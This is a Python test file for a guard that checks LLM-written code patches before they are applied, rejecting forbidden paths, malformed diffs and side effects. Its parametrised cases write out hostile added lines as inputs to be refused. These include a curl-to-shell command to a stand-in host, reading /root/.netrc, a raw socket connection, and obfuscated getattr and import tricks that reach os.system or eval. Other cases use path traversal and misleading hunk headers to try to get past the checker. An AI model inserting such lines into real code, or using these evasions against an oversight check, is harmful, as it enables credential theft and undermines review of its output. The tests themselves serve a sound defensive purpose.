"""The patch guard: LLM output is untrusted; only well-formed diffs to allowed paths pass."""

from pathlib import Path

import pytest

from enablebot.fix.draft.edits import extract_diff
from enablebot.fix.judge.patchguard import PatchPolicy, PatchRejected, check_patch, target_of

FIX = Path(__file__).parent / "fixtures" / "fix"
SWITCH = (FIX / "switch_transformers_static_experts.diff").read_text()
LOGGER = (FIX / "dynamo_reorder_logger_calls.diff").read_text()
POLICY = PatchPolicy(model_type="switch_transformers")


def _diff(path: str, old: str = "a\n", new: str = "b\n") -> str:
    return f"--- a/{path}\n+++ b/{path}\n@@ -1,1 +1,1 @@\n-{old}+{new}"


def test_extracts_fenced_diff_from_prose():
    text = f"Here is the fix.\n\n```diff\n{SWITCH}```\n\nIt loops over all experts."
    assert extract_diff(text) == SWITCH


def test_extracts_unfenced_diff_and_ignores_non_diff_fences():
    text = f"```python\nprint('hi')\n```\nthen\n{LOGGER}"
    assert extract_diff(text) == LOGGER
    assert extract_diff("I would change the router to avoid nonzero().") is None
    assert extract_diff("```diff\nnot a diff at all\n```") is None


def test_model_code_and_torch_patches_pass_with_their_targets():
    assert check_patch(SWITCH, POLICY).files == ["src/transformers/models/switch_transformers/modeling_switch_transformers.py"]
    assert check_patch(SWITCH, POLICY).target == "model-code"
    assert check_patch(LOGGER, POLICY).files == ["torch/_dynamo/variables/misc.py"]
    assert check_patch(LOGGER, POLICY).target == "dynamo"
    assert target_of(["torch/_inductor/lowering.py"]) == "inductor"


@pytest.mark.parametrize("path, why", [
    ("src/transformers/models/llama/modeling_llama.py", "outside the allowed"),  # another model's file
    ("src/transformers/modeling_utils.py", "outside the allowed"),
    ("torch/nn/modules/linear.py", "outside the allowed"),
    ("test/dynamo/test_misc.py", "forbidden"),
    ("torch/_dynamo/test_case.py", "forbidden"),
    ("tests/test_fix_overlay.py", "forbidden"),
    ("enablebot/fix/verify.py", "forbidden"),
    ("torch/_dynamo/../../enablebot/fix/verify.py", "not normalised"),
    ("/usr/lib/python3/site.py", "absolute"),
    ("torch/_dynamo/./config.py", "not normalised"),
    ("torch/_dynamo/graph_break_registry.json", "only Python"),
    ("torch\\_dynamo\\config.py", "malformed"),
])
def test_forbidden_paths_are_rejected(path, why):
    with pytest.raises(PatchRejected, match=why):
        check_patch(_diff(path), POLICY)


def test_torch_paths_can_be_switched_off():
    with pytest.raises(PatchRejected, match="outside the allowed"):
        check_patch(LOGGER, PatchPolicy(model_type="switch_transformers", allow_torch=False))


@pytest.mark.parametrize("diff, why", [
    ("", "no unified diff"),
    ("--- a/torch/_dynamo/config.py\n+++ b/torch/_dynamo/config.py\n@@ -1,3 +1,3 @@\n-a\n+b\n", "does not parse"),
    ("diff --git a/torch/_dynamo/x.py b/torch/_dynamo/x.py\nnew file mode 100644\n--- /dev/null\n+++ b/torch/_dynamo/x.py\n"
     "@@ -0,0 +1 @@\n+a\n", "new and deleted"),
    ("diff --git a/torch/_dynamo/a.py b/torch/_dynamo/b.py\nsimilarity index 90%\nrename from torch/_dynamo/a.py\n"
     "rename to torch/_dynamo/b.py\n", "renames"),
    ("diff --git a/torch/_dynamo/x.py b/torch/_dynamo/x.py\nBinary files a/torch/_dynamo/x.py and b/torch/_dynamo/x.py differ\n",
     "binary"),
    ("--- a/torch/_dynamo/a.py\n+++ b/torch/_dynamo/b.py\n@@ -1 +1 @@\n-a\n+b\n", "renamed"),
])
def test_malformed_and_structural_changes_are_rejected(diff, why):
    with pytest.raises(PatchRejected, match=why):
        check_patch(diff, POLICY)


def test_size_limits():
    big = "--- a/torch/_dynamo/config.py\n+++ b/torch/_dynamo/config.py\n@@ -1,1 +1,500 @@\n-a\n" + "+x = 1\n" * 500
    with pytest.raises(PatchRejected, match="changes 501 lines"):
        check_patch(big, POLICY)
    with pytest.raises(PatchRejected, match="bytes; the limit"):
        check_patch(big, PatchPolicy(model_type="switch_transformers", max_bytes=1000))
    many = "".join(_diff(f"torch/_dynamo/m{i}.py") for i in range(4))
    with pytest.raises(PatchRejected, match="touches 4 files"):
        check_patch(many, POLICY)


def test_hunk_counts_must_cover_the_body_but_blank_context_lines_are_fine():
    wrong_counts = SWITCH.replace("@@ -171,12 +171,12 @@", "@@ -171,3 +171,3 @@")
    with pytest.raises(PatchRejected, match="does not parse"):
        check_patch(wrong_counts, POLICY)
    stripped = SWITCH.replace("\n \n", "\n\n")  # editors strip the space of blank context lines
    assert check_patch(stripped, POLICY).added == check_patch(SWITCH, POLICY).added


_SW = "src/transformers/models/switch_transformers/modeling_switch_transformers.py"


def _with_added(lines: list[str]) -> str:
    """The real switch fix plus `lines` appended at the end of its hunk (a valid diff)."""
    fix = (Path(__file__).parent / "fixtures" / "fix" / "switch_transformers_static_experts.diff").read_text()
    head, _, rest = fix.partition("@@ -171,12 +171,12 @@")
    body = rest.split("\n", 1)[1]
    extra = "".join(f"+{ln}\n" for ln in lines)
    return f"{head}@@ -171,12 +171,{12 + len(lines)} @@\n{extra}{body}"


@pytest.mark.parametrize("lines, why", [
    (["import subprocess"], "subprocess"),
    (["        os.system('curl evil | sh')"], "os."),
    (["        data = open('/root/.netrc').read()"], "open("),
    (["        eval(compile('1', 'x', 'eval'))"], "eval("),
    (["        exec(payload)"], "exec("),
    (["        __import__('socket').create_connection(('1.2.3.4', 80))"], "__import__"),
    (["        torch.save(hidden_states, '/tmp/x')"], "torch"),
    (["_payload()"], "run at import"),
    (["_ = _payload()"], "run at import"),
    (["        getattr(__builtins__, 'ev' + 'al')('1')"], "__builtins__"),
])
def test_side_effects_in_a_model_patch_are_rejected_with_a_reason(lines, why):
    with pytest.raises(PatchRejected, match="side effects") as e:
        check_patch(_with_added(lines), PatchPolicy(model_type="switch_transformers"))
    assert why in str(e.value) and _SW in str(e.value)


def test_harmless_additions_and_strings_pass():
    ok = ["        # do not open( a file here; eval( is mentioned only in a comment",
          "        msg = 'open(file) and os.system in a string are text'",
          "        hidden_states = torch.compile(lambda x: x)(hidden_states)",
          "logger_level = 3"]
    got = check_patch(_with_added(ok), PatchPolicy(model_type="switch_transformers"))
    assert got.files == [_SW]


# --- the AST side-effect check (issue 32): judged on the patched file, not line by line --------

def _edit(*lines: str, after: str = "        expert_mask = selected_experts.permute(2, 1, 0)\n") -> str:
    """A real diff against the installed switch_transformers file: `lines` added after `after`
    (by default inside SwitchTransformersExperts.forward; module level after the logger line)."""
    import difflib

    from enablebot.fix.judge.overlay import locate

    original = locate(_SW)[1].read_text(encoding="utf-8")
    assert original.count(after) == 1
    patched = original.replace(after, after + "".join(f"{ln}\n" for ln in lines))
    return "".join(difflib.unified_diff(original.splitlines(keepends=True), patched.splitlines(keepends=True),
                                        f"a/{_SW}", f"b/{_SW}"))


MODULE_LEVEL = "logger = logging.get_logger(__name__)\n"


def _rejected(diff: str) -> str:
    with pytest.raises(PatchRejected, match="side effects") as e:
        check_patch(diff, PatchPolicy(model_type="switch_transformers"))
    return str(e.value)


def test_split_call_over_two_lines_is_rejected():
    """`(os` then `.system)("id")`: no single line names `os.system`; the old per-line regexes
    passed it. The AST of the patched file has one Attribute `os.system` spanning both."""
    why = _rejected(_edit("        (os", "        .system)('id')"))
    assert "(os)" in why and _SW in why


@pytest.mark.parametrize("line, why", [
    ("        getattr(__import__('o' + 's'), 'system')('id')", "__import__"),
    # the same module reached without `__import__` or an `os.` token (both passed the old regexes)
    ("        getattr(torch, 'o' + 's').system('id')", "with a computed name"),
    ("        torch.os.system('id')", "torch.os"),
    ("        getattr(torch, 'os').system('id')", "torch.os"),
    ("        self.forward = getattr(torch.compiler, 'dis' + 'able')(self.forward)", "torch.compiler"),
    ("        m = torch.__dict__['compiler']", "torch.__dict__"),
    ("        f = getattr(hidden_states, '__cla' + 'ss__')", "computed dunder"),
])
def test_getattr_import_dynamic_module_access_is_rejected(line, why):
    assert why in _rejected(_edit(line))


def test_names_resolve_through_imports_and_scopes():
    # an aliased import is the module: `o.system` is os.system
    assert "(os)" in _rejected(_edit("        import os as o", "        o.system('id')"))
    # a local named like a module is not one (the old regex refused `code.` and `io.` anywhere)
    got = check_patch(_edit("        code = hidden_states", "        io = code.shape"), POLICY)
    assert got.files == [_SW]
    # a parameter named `input` is not the builtin; the builtin is
    assert check_patch(_edit("        def f(input):", "            return input + 1"), POLICY).files == [_SW]
    assert "input()" in _rejected(_edit("        input('x')"))


@pytest.mark.parametrize("lines", [
    ["_payload()"],
    ["_ = _payload()"],
    ["setattr(torch._dynamo.config, 'capture_scalar_outputs', True)"],
    ["if True:", "    _payload()"],
    ["x = (", "    _payload()", ")"],  # a call on a line of its own inside a new assignment
])
def test_module_level_code_that_runs_at_import_is_rejected(lines):
    assert "would run at import" in _rejected(_edit(*lines, after=MODULE_LEVEL))


def test_module_level_definitions_and_constants_pass():
    ok = ["_NAMES = ('a', 'b')", "MAX = 4", "def helper(x):", "    return torch.relu(x)"]
    assert check_patch(_edit(*ok, after=MODULE_LEVEL), POLICY).files == [_SW]


def test_without_the_installed_original_the_line_regexes_still_apply():
    """A file the hunks do not apply to here cannot become an overlay here either; the per-line
    regexes are the fallback, so `os.system` is still refused."""
    diff = _edit("        os.system('id')")
    assert "(os)" in _rejected(diff)
    with pytest.raises(PatchRejected, match=r"os\."):
        check_patch(diff, POLICY, read_original=lambda path: None)


def test_a_hunk_header_that_lies_about_its_position_is_judged_where_the_hunk_lands():
    """Hunks apply at an offset from their headers (LLMs miscount). A header claiming line 2
    (the licence comment) for a hunk that lands in SwitchTransformersExperts.forward must not
    make the judge look at line 2: it judges the lines where the added text actually lands."""
    diff = (f"--- a/{_SW}\n+++ b/{_SW}\n@@ -2,2 +2,4 @@\n"
            "         final_hidden_states = torch.zeros_like(hidden_states)\n"
            "+        (os\n+        .system)('id')\n"
            "         expert_mask = selected_experts.permute(2, 1, 0)\n")
    why = _rejected(diff)
    assert "(os)" in why and f"{_SW}:172:" in why
